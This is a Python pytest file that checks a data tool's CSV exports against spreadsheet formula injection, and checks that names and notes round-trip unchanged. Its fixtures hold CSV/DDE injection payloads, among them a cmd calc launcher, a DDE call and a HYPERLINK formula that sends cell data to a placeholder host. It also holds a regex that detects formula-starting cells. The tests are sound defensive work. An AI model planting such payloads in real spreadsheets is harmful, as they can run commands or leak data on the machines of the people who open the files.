"""What a spreadsheet would run stays text in every file that is written, and comes back as it was."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from fenji.cli.grades_file import write_grades
from fenji.intake.spreadsheet_text import spreadsheet_cell
from fenji.workspace.workspace import Workspace
from tests.architecture.test_house import MODULES, found

BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"go")',
    "2-3",
    'DDE("a";"b";"c")',
)
STARTS = ("=", "+", "-", "@", "{=", "＝", "＋", "－", "＠", "  =", "\u3000=")
PAYLOADS = [*(f"{start}{body}" for start in STARTS for body in BODIES), '="a""b"', "=\u201c1\u201d", "-", "+"]
NUMBERS = ("-5.00", "-12", "+3", "1,5", "+86 138 0013 8000")
RUNS = re.compile(r"\s*(?:[=@＝＠＋－]|\{=|[+-](?!\d[\d ]*(\.\d+)?$))|[\t\r\n\0]")


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """Customers whose names and notes are formulas, and some orders that are refused."""
    folder = tmp_path_factory.mktemp("formulas")
    opened = Workspace.create(folder / "shop")
    people = [{"customer_id": f"C{number}", "name": words, "note": words} for number, words in enumerate(PAYLOADS)]
    _write(folder / "people.csv", ["customer_id", "name", "note"], people)
    assert opened.import_file(folder / "people.csv", "customers").rejected == 0
    orders = [
        {"order_id": f"O{number}", "customer_id": f"C{number}", "ordered_at": "2024-01-01", "amount": "9",
         "channel": words, "owner": f"Q{number}"}
        for number, words in enumerate(PAYLOADS)
    ]  # fmt: skip
    orders.append({**orders[0], "order_id": "GOOD"})
    for one in orders[:-1]:
        one["amount"] = "never"
    _write(folder / "orders.csv", [*orders[0]], orders)
    yield opened
    opened.close()


def test_no_cell_of_a_file_of_grades_is_a_formula_and_the_names_come_back_as_they_were(
    shop: Workspace, tmp_path: Path
) -> None:
    report = shop.import_file(shop.folder.parent / "orders.csv", "orders")
    assert (report.accepted, report.rejected) == (1, len(PAYLOADS))
    result = shop.grade("value", as_of=date(2024, 6, 30))
    write_grades(result, tmp_path / "grades.csv")
    rows = _read(tmp_path / "grades.csv")
    assert [cell for row in rows for cell in row if RUNS.match(cell)] == []
    result.engine.close()
    before = _names(shop)
    exported = [{"customer_id": name, "name": spreadsheet_cell(words)} for name, words in before.items()]
    _write(tmp_path / "again.csv", ["customer_id", "name"], exported)
    again = Workspace.create(tmp_path / "again")
    again.import_file(tmp_path / "again.csv", "customers")
    assert _names(again) == before
    assert sorted(before.values()) == sorted(words.replace("\u3000", " ").strip() for words in PAYLOADS)
    again.close()


def test_no_cell_of_a_file_of_rejects_is_a_formula_and_mended_it_is_what_it_was(
    shop: Workspace, tmp_path: Path
) -> None:
    (path,) = (shop.folder / "rejects").glob("*.csv")
    rows = _read(path)
    assert len(rows) == len(PAYLOADS) + 1
    assert [cell for row in rows for cell in row if RUNS.match(cell)] == []
    amount = rows[0].index("amount")
    for row in rows[1:]:
        row[amount] = "7"
    with (tmp_path / "mended.csv").open("w", encoding="utf-8-sig", newline="") as file:
        csv.writer(file).writerows(rows)
    report = shop.import_file(tmp_path / "mended.csv", "orders")
    assert report.rejected == 0
    sql = "SELECT owner, channel FROM lake.main.orders WHERE amount = 7"
    came = {row["owner"]: row["channel"] for row in shop.lake.engine.rows(sql)}
    assert came == {
        f"Q{number}": words.replace("\u3000", " ").strip() if words != "-" else None
        for number, words in enumerate(PAYLOADS)
    }


@pytest.mark.parametrize("words", NUMBERS)
def test_numbers_and_telephones_are_still_what_they_are(words: str) -> None:
    assert spreadsheet_cell(words) == words


@pytest.mark.parametrize("words", ["'Ndrangheta", "O'Brien", "'quoted'", "'", "''=x"])
def test_an_apostrophe_that_people_wrote_stays(words: str, tmp_path: Path) -> None:
    _write(tmp_path / "people.csv", ["customer_id", "name"], [{"customer_id": "C1", "name": words}])
    shop = Workspace.create(tmp_path / "shop")
    shop.import_file(tmp_path / "people.csv", "customers")
    assert _names(shop) == {"C1": words}
    shop.close()


def test_whoever_writes_a_csv_keeps_its_cells_from_running() -> None:
    writes = re.compile(r"csv\.(?:Dict)?[wW]riter\(")
    trusted = {
        "src/fenji/workspace/losses.py": "read by fenji alone: ids and closed words",
        "src/fenji/workspace/erasing_files.py": "a file that was written before, without somebody's rows",
        "src/fenji_web/care/jobs.py": "what somebody typed into a form, on its way into the lake",
    }

    def runs(path: Path) -> bool:
        words = path.read_text("utf-8")
        is_trusted = any(path.as_posix().endswith(one) for one in trusted) or "/demo/" in path.as_posix()
        return bool(writes.search(words)) and "spreadsheet_cell" not in words and not is_trusted

    assert found(MODULES, runs) == {}


def _write(path: Path, columns: list[str], rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, columns)
        writer.writeheader()
        writer.writerows(rows)


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def _names(shop: Workspace) -> dict[str, str]:
    sql = "SELECT customer_id, name FROM lake.main.customers WHERE name IS NOT NULL AND is_listed"
    return {row["customer_id"]: row["name"] for row in shop.lake.engine.rows(sql)}
